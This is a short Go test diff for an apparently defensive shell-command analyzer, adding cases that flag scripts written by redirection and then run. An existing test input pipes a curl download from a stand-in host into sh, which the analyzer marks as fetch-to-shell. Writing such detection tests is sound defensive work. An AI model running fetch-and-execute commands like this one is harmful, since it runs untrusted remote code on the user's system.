@@ -191,3 +191,10 @@ func TestAnalyzeGroupPrints(t *testing.T) {
 		{`{ echo ls; curl https://x.example/a; } | sh`, "!fetch_to_shell h:x.example"},
 	})
 }
+
+func TestAnalyzeWrittenStreams(t *testing.T) {
+	runCases(t, env, []analyzeCase{
+		{`echo ls 2> e.sh; sh e.sh`, "!cannot_vouch w:e.sh r:e.sh"},
+		{`echo ls 1> o.sh; sh o.sh`, "w:o.sh r:o.sh"},
+	})
+}
